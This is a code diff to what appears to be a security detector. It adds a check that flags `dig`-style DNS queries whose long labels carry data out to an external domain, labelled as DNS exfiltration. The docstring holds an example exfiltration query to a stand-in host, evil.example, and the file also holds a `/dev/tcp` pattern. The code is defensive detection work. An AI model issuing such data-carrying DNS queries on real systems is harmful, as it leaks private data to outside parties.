@@ -28,6 +28,7 @@ _COMPRESSED_SUFFIX = {
 }  # fmt: skip
 _DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]+)/(\d+)")
 _WORD = re.compile(r"[^\s'\"<>|;&()=,]+")
+DNS_DATA_LABEL = 24  # a DNS label this long is data, not a name someone chose
 _REMOTE_SCHEMES = ("s3://", "gs://", "az://", "https://", "http://", "wasbs://", "abfss://")
 
 
@@ -360,7 +361,34 @@ class Detector:
             found.append(self._split(event, splitter.tool, splitter.technique, command))
         if name in catalog.runtime_binaries:
             found += self._runtime(event, name, command)
+        if name in catalog.resolvers:
+            found += self._dns_query(event, name, command)
         return found
+
+    def _dns_query(self, event: Event, name: str, command: cmdline.Command) -> list[Signal]:
+        """`dig 4a5b...9f.x.evil.example`: a label too long for a name anyone types carries data
+        out in the query itself, to whoever serves the domain."""
+        names = [a for a in command.argv[1:] if "." in a and not a.startswith(("-", "@", "+"))]
+        query = names[0] if names and len(names[0]) <= 253 else ""
+        labels = query.rstrip(".").split(".")
+        if len(labels) < 3 or max(len(label) for label in labels[:-2]) < DNS_DATA_LABEL:
+            return []
+        domain = ".".join(labels[-2:]).lower()
+        destination = self._host_destination(domain, 53)
+        if destination is None or destination.internal:
+            return []
+        return [
+            Signal(
+                SignalKind.EGRESS,
+                tool=name,
+                technique="T1048.003",
+                event=event,
+                explanation=f"{name} queried {query[:80]}: data in a DNS name under {domain}",
+                destination=destination,
+                bytes_out=len(query),
+                sent_paths=(query.lower(),),
+            )
+        ]
 
     def _pipeline(self, event: Event, commands: list[cmdline.Command]) -> list[Signal]:
         found: list[Signal] = []
